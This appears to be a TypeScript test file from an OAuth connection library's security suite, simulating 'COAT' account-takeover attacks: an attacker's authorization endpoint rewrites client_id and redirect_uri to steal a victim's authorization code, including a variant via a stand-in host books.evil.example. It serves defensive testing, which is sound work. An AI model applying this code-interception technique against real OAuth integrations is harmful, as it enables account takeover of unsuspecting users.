import { randomBytes } from 'node:crypto';
import { type Definition, serverSegment } from '@latchkey/oauth';
import type { Attack } from './attack.js';
import { booksDomain } from './internet.js';
import { connectsHonestly, eve, held, mara, stolen } from './loot.js';
import { atAnyRedirectUri } from './missing-defences.js';
import type { Person } from './person.js';
import { makeTarget, type Target } from './target.js';
import type { World } from './world.js';

/**
 * Cross-tool account takeover: a config whose authorization endpoint is the attacker's sends the browser on to an honest
 * provider with an honest config's client and redirect URI, and our state. Its code would go to the attacker's token
 * endpoint, with the verifier that belongs to it.
 */
async function attack(world: World, whose: 'acme' | 'evil') {
  const { malicious, provider } = world;
  const honest = await makeTarget(world, world.acme);
  const trap = await makeTarget(world, world[whose], {
    definition: {
      name: 'Free calendar',
      authorize: { url: `${malicious.url}/authorize` },
      token: { url: `${malicious.url}/token` },
    },
  });
  malicious.sendsOnTo = (asked) => {
    const onward = new URLSearchParams(asked);
    onward.set('client_id', honest.clientId);
    onward.set('redirect_uri', honest.callbackUrl);
    return `${provider.url}/authorize?${onward}`;
  };
  const victim = await world.person(mara);
  await victim.openWizard(trap);
  const { url } = await victim.begin(trap);
  await victim.follow(url, world.door);
  return stolen(world, /^a code of mara/);
}

const rest = {
  defence: 'a redirect URI for each config and environment',
  honest: connectsHonestly,
  without: atAnyRedirectUri,
};

export const coatAcrossTenants: Attack = {
  name: 'COAT, across tenants',
  attack: (world) => attack(world, 'evil'),
  ...rest,
};

export const coatWithinOneTenant: Attack = {
  name: 'COAT, by another config of the same tenant',
  attack: (world) => attack(world, 'acme'),
  ...rest,
};

const evilHost = 'books.evil.example';
/** Each customer has a server of their own, with an application that they registered there. */
const ownServer: Partial<Definition> = {
  client: { owner: 'connection' },
  inputs: [{ name: 'host', label: 'Your server', type: 'host', hosts: ['*'], visibility: 'customer', required: true }],
  authorize: { url: 'https://{host}/authorize' },
  token: { url: 'https://{host}/token' },
};

/** The name look-up of this internet, for a browser. */
async function resolves({ context }: Person, host: string, url: string): Promise<void> {
  await context.route(`https://${host}/**`, (route) => {
    const asked = new URL(route.request().url());
    const onward = `${url}${asked.pathname}${asked.search}`.replaceAll('&', '&amp;');
    const body = `<!doctype html><meta http-equiv="refresh" content="0;url=${onward}">`;
    return route.fulfill({ contentType: 'text/html', body });
  });
}

/** The redirect URI that an application at this server is registered with. */
async function callbackOf({ callbackUrl, definition }: Target, host: string): Promise<string> {
  return `${callbackUrl}${await serverSegment(definition, 'production', { host })}`;
}

/**
 * The same within one config, where a customer chooses the server: a colleague types the attacker's, and leaves Connect to
 * the victim. It sends the browser on to the victim's own server, with the client and the redirect URI that are registered
 * there, and our state.
 */
export const coatWithinOneConfig: Attack = {
  name: 'COAT, by another server of the same config',
  defence: 'a redirect URI for each server, where an input chooses it',
  async attack(world) {
    const { malicious, provider } = world;
    const target = await makeTarget(world, world.acme, { definition: ownServer });
    const clientId = `application-of-${target.clientId}`;
    const redirectUri = await callbackOf(target, booksDomain);
    provider.register({ clientId, clientSecret: randomBytes(24).toString('base64url'), redirectUris: [redirectUri] });
    malicious.sendsOnTo = (asked) => {
      const onward = new URLSearchParams(asked);
      onward.set('redirect_uri', redirectUri);
      return `${provider.url}/authorize?${onward}`;
    };
    const colleague = await world.person(eve);
    await colleague.openWizard(target);
    const typed = { 'input.host': evilHost, 'input.client.id': clientId, 'input.client.secret': 'of-nobody' };
    await colleague.begin(target, typed);
    const victim = await world.person(mara);
    await resolves(victim, evilHost, malicious.url);
    await victim.openWizard(target);
    const { url } = await victim.begin(target);
    await victim.follow(url, world.door);
    return stolen(world, /^a code of mara/);
  },
  async honest(world) {
    const target = await makeTarget(world, world.acme, { definition: ownServer });
    const victim = await world.person(mara);
    await resolves(victim, booksDomain, world.provider.url);
    await victim.openWizard(target);
    const { page } = victim;
    await page.getByText('as soon as the address of your server is entered').waitFor();
    await page.getByLabel('Your server').fill(booksDomain);
    const redirectUri = await page.getByLabel('Callback URL').inputValue();
    const client = {
      clientId: `application-of-${target.clientId}`,
      clientSecret: randomBytes(24).toString('base64url'),
    };
    world.provider.register({ ...client, redirectUris: [redirectUri] });
    await page.getByLabel('Client ID').fill(client.clientId);
    await page.getByLabel('Client secret').fill(client.clientSecret);
    await victim.pressConnect();
    return await held(world, target, mara);
  },
  without: atAnyRedirectUri,
};
